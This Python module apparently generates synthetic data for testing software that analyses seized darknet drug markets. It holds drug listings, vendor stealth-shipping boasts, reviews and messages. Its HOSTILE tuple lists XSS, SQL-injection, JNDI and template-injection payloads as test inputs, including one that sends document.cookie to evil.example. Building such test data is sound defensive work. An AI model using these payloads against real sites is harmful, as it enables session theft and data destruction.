"""Text a seized market holds: listing titles with quantities, descriptions, reviews, messages,
and the messy realities (HTML, script and SQL payloads, emoji, very long texts)."""

from __future__ import annotations

import random

# (category path, product, units with a base price in satoshis per unit)
PRODUCTS: tuple[tuple[str, str, str, int], ...] = (
    ("Drugs > Cannabis > Weed", "Amnesia Haze", "g", 90_000),
    ("Drugs > Cannabis > Weed", "OG Kush", "g", 100_000),
    ("Drugs > Cannabis > Hash", "Moroccan Hash", "g", 80_000),
    ("Drugs > Stimulants > Cocaine", "Cocaine 90% pure", "g", 900_000),
    ("Drugs > Stimulants > Speed", "Amphetamine paste", "g", 120_000),
    ("Drugs > Stimulants > Meth", "Crystal Meth", "g", 600_000),
    ("Drugs > Ecstasy > MDMA", "MDMA crystals 84%", "g", 350_000),
    ("Drugs > Ecstasy > Pills", "Blue Tesla XTC 270mg", "x", 60_000),
    ("Drugs > Psychedelics > LSD", "LSD blotter 150ug", "x", 70_000),
    ("Drugs > Psychedelics > Mushrooms", "Golden Teacher mushrooms", "g", 50_000),
    ("Drugs > Opioids > Heroin", "Heroin no.4", "g", 800_000),
    ("Drugs > Benzos", "Xanax 2mg bars", "x", 25_000),
    ("Drugs > Prescription", "Oxycodone 30mg", "x", 200_000),
    ("Drugs > Dissociatives > Ketamine", "Ketamine S-isomer", "g", 400_000),
)
QUANTITIES = (1, 2, 3, 5, 7, 10, 14, 25, 28, 50, 100, 250, 500, 1000)
EMOJI = ("🔥", "💊", "🍁", "❄️", "🚀", "✅", "💯", "🌿", "⭐", "📦")

HOSTILE = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">",
    "'); DROP TABLE users; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM orders WHERE ('1'='1",
    '<a href="javascript:alert(1)">click</a>',
    "\\'; SELECT * FROM wallets; -- \\\\",
    "<iframe src=//x></iframe>",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} <%= 7*7 %>",
)

SIGNATURES = (
    "Stealth is our priority: vacuum sealed three times, MBB, no smell.",
    "Ships within 24h, tracked, discreet packaging guaranteed.",
    "Best quality in the game, lab tested, reship policy 50%.",
    "We are the OG team since 2015, top 1% vendor, FE only for trusted buyers.",
    "Family business. Every order packed by hand with love and gloves.",
    "Direct from the source, no middlemen. Bulk prices on request.",
    "Pharma grade. Blister packs. Customs-proof stealth.",
    "NO FE. NO EXCEPTIONS. Read my profile before ordering!!!",
    "Orders placed before 14:00 UTC ship same day (Mon–Fri).",
    "Anti-customs stealth v3, decoy included, 100% delivery rate last 6 months.",
    "We take care of our customers like family, PM for custom orders.",
    "Quality over quantity. Small batches. Fast replies.",
)

REVIEWS_GOOD = (
    "Arrived in 3 days, great stealth, will order again",
    "top vendor!!! 5/5",
    "Quality as described, thanks",
    "fast and discreet 👍",
    "Bester Verkäufer, sehr schnell",
    "Top kwaliteit, snel geleverd",
    "excellent produit, livraison rapide",
)
REVIEWS_BAD = (
    "never arrived, vendor does not answer",
    "weight was short 0.3g",
    "scam!!! avoid",
    "took 3 weeks, product meh",
)

MESSAGES = (
    "Hi, is this still in stock? I would like {q} {u}.",
    "Package sent today, tracking not available for stealth reasons.",
    "Can you do a better price for {q}?",
    "Order received, thanks mate.",
    "Hello, my order has not arrived yet, can you check?",
    "Please finalize early, I am a trusted vendor.",
    "Reship will go out tomorrow.",
    "Do you ship to {country}?",
    "Your account has been warned for off-site deals. -- staff",
    "Vendor bond payment received, your account is upgraded.",
)
#: How people open and close their messages: a personal habit kept across markets (a writing
#: habit an investigator can compare), each shared by a few percent of everyone.
GREETINGS = (
    "hey bro",
    "Hi,",
    "Hello mate",
    "yo",
    "Good evening",
    "hey man",
    "Hallo",
    "Salut",
    "Hi there!",
    "Greetings friend",
    "sup",
    "Dear vendor,",
    "hey hey",
    "Howdy",
    "Hi :)",
    "Ahoy",
    "Moin",
    "hello hello",
    "Hey buddy",
    "Evening",
    "Hi again",
    "Bonjour",
    "hej",
    "Good day,",
)
SIGNOFFS = (
    "thx",
    "cheers",
    "peace",
    "stay safe",
    "- J",
    "regards",
    "gracias",
    "much love",
    "thanks in advance",
    "ttyl",
    "bless",
    "take care",
    "best wishes",
    "Danke!",
    "merci",
    "later",
    "respect",
    "keep it up",
    "yours truly",
    "have a nice day",
    "one love",
    "ciao",
    "over and out",
    "greetz",
)

#: A line some people put in most of what they write (a catchphrase, a plea, a promise).
QUIRKS = (
    "no rush, whenever you can",
    "love your stuff",
    "as always, 5 stars",
    "pls be quick",
    "my usual please",
    "long time customer here",
    "first time trying this",
    "fingers crossed",
    "you guys are the best",
    "stay safe out there",
    "respect the game",
    "same address as before",
    "hope the weekend is good",
    "quality is everything to me",
    "let me know asap",
    "dont forget the stealth",
    "ordering for a party",
    "keep up the good work",
    "big fan of your work",
    "no FE sorry",
    "tracking would be nice",
    "cant wait!!",
    "this is for personal use",
    "sorry for the many questions",
    "be careful with customs",
    "my friend recommended you",
    "will leave a review",
    "god bless",
    "one more time",
    "coming back for more",
    "hope all is well",
    "need it before friday",
    "trust you fully",
    "still the best on here",
    "what a service",
    "sorry for my english",
    "peace and love",
    "honest vendor",
    "greetings from the north",
    "happy holidays",
)


def listing_title(rng: random.Random, product: str, unit: str, qty: int, flair: bool) -> str:
    if unit == "x":
        title = f"{qty}x {product}"
    else:
        title = rng.choice(
            (f"{qty}{unit} {product}", f"{product} - {qty} {unit}", f"{qty} G {product}")
        )
        if unit != "g":
            title = f"{qty}{unit} {product}"
    if flair:
        title = rng.choice(EMOJI) + " " + title + " " + rng.choice(EMOJI)
    return title


def long_text(rng: random.Random, length: int) -> str:
    """A very long text (a pasted terms-of-service or a spam wall)."""
    words = (
        "lorem",
        "ipsum",
        "stealth",
        "quality",
        "ÜBER",
        "ñandú",
        "🚀",
        "vendor",
        "FE",
        "escrow",
    )
    parts: list[str] = []
    size = 0
    while size < length:
        w = rng.choice(words)
        parts.append(w)
        size += len(w) + 1
    return " ".join(parts)[:length]
